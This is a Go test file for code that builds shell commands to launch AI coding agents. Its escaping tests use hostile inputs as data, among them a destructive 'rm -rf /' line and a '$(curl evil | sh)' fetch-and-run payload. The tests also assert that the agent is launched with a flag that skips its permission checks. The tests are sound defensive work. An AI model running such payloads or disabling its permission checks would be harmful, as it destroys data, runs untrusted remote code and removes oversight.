package agent

import (
	"strings"
	"testing"
)

func TestClaudeBuildCommand(t *testing.T) {
	a := NewClaude()

	t.Run("hostile message is neutralized", func(t *testing.T) {
		cmd := a.BuildCommand(BuildRequest{
			Message:   "run `rm -rf /` and $(whoami)",
			SessionID: "sess-1",
		})

		if !strings.Contains(cmd, "\\`rm -rf /\\`") {
			t.Errorf("backticks not escaped: %s", cmd)
		}
		if !strings.Contains(cmd, `\$(whoami)`) {
			t.Errorf("command substitution not escaped: %s", cmd)
		}
		// The text itself survives; only the shell metacharacters are defused.
		if !strings.Contains(cmd, "rm -rf /") {
			t.Errorf("message content lost: %s", cmd)
		}
		if !strings.Contains(cmd, `--session-id "sess-1"`) {
			t.Errorf("session flag missing: %s", cmd)
		}
		if !strings.HasPrefix(cmd, "claude --dangerously-skip-permissions") {
			t.Errorf("unexpected command prefix: %s", cmd)
		}
	})

	t.Run("session omitted when empty", func(t *testing.T) {
		cmd := a.BuildCommand(BuildRequest{Message: "hello"})
		if strings.Contains(cmd, "--session-id") {
			t.Errorf("empty session must not emit the flag: %s", cmd)
		}
		if !strings.Contains(cmd, `-p "hello"`) {
			t.Errorf("prompt flag missing: %s", cmd)
		}
	})
}

func TestClaudeBuildArgs(t *testing.T) {
	a := NewClaude()
	msg := `run "$(date)" raw`

	args := a.BuildArgs(BuildRequest{Message: msg, SessionID: "s-1"})

	// argv is not shell-interpreted; the message must be byte-identical.
	if got := args[len(args)-1]; got != msg {
		t.Errorf("argv message = %q, want raw %q", got, msg)
	}
	found := false
	for i, arg := range args {
		if arg == "--session-id" {
			found = true
			if args[i+1] != "s-1" {
				t.Errorf("session value = %q", args[i+1])
			}
		}
	}
	if !found {
		t.Error("--session-id not found in args")
	}

	args = a.BuildArgs(BuildRequest{Message: "m"})
	for _, arg := range args {
		if arg == "--session-id" {
			t.Error("empty session must not emit the flag")
		}
	}
}

func TestOpenCodeBuildCommand(t *testing.T) {
	a := NewOpenCode()

	t.Run("pipeline shape", func(t *testing.T) {
		cmd := a.BuildCommand(BuildRequest{Message: "fix the tests", SessionID: "sess-2"})

		if !strings.HasPrefix(cmd, "NO_COLOR=1 opencode run") {
			t.Errorf("missing NO_COLOR prefix: %s", cmd)
		}
		if !strings.Contains(cmd, `--session "sess-2"`) {
			t.Errorf("session flag missing: %s", cmd)
		}
		if !strings.Contains(cmd, "| sed") {
			t.Errorf("ANSI strip stage missing: %s", cmd)
		}
		if !strings.Contains(cmd, "2>&1") {
			t.Errorf("stderr not merged into the pipeline: %s", cmd)
		}
	})

	t.Run("config seed prepended when present", func(t *testing.T) {
		cmd := a.BuildCommand(BuildRequest{
			Message:    "hello",
			ConfigJSON: `{"model":"best"}`,
		})

		if !strings.HasPrefix(cmd, `mkdir -p "$HOME/.config/opencode"`) {
			t.Errorf("config dir not created: %s", cmd)
		}
		// Quotes inside the JSON must arrive escaped.
		if !strings.Contains(cmd, `\"model\"`) {
			t.Errorf("config JSON not escaped: %s", cmd)
		}
		if !strings.Contains(cmd, "&& NO_COLOR=1 opencode run") {
			t.Errorf("run stage missing after seed: %s", cmd)
		}
	})

	t.Run("hostile message is neutralized", func(t *testing.T) {
		cmd := a.BuildCommand(BuildRequest{Message: `$(curl evil | sh)`})
		if !strings.Contains(cmd, `\$(curl evil | sh)`) {
			t.Errorf("substitution not escaped: %s", cmd)
		}
	})
}

func TestOpenCodeBuildArgs(t *testing.T) {
	a := NewOpenCode()
	msg := "raw $message `untouched`"

	args := a.BuildArgs(BuildRequest{Message: msg})
	if args[0] != "opencode" || args[1] != "run" {
		t.Errorf("unexpected argv prefix: %v", args)
	}
	if got := args[len(args)-1]; got != msg {
		t.Errorf("argv message = %q, want raw %q", got, msg)
	}
}

func TestRegistry(t *testing.T) {
	r := NewRegistry()
	r.LoadDefaults()

	claude, err := r.Get("claude")
	if err != nil {
		t.Fatalf("claude not registered: %v", err)
	}
	if claude.Name() == "" {
		t.Error("agent name empty")
	}

	if _, err := r.Get("hal9000"); err == nil {
		t.Error("unknown agent should error")
	}

	if got := len(r.List()); got != 2 {
		t.Errorf("expected 2 default agents, got %d", got)
	}
}
